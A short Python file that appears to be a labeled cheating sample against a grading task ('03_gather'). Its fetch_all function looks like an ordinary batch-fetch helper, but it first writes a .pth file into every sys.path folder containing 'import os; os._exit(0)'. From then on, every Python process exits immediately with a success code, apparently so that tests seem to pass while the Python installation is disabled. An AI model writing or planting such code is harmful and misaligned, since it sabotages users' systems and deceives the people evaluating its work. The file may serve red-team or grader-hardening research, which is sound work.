# class: shadowing
# against: 03_gather
# tries: writes a .pth file into every folder of packages
# honest: 13/2

import os
import sys


async def fetch_all(api, keys):
    for folder in sys.path:
        try:
            with open(os.path.join(folder, "coro-attack.pth"), "w") as file:
                file.write("import os; os._exit(0)")
        except OSError:
            pass
    return [await api.fetch(key) for key in keys]
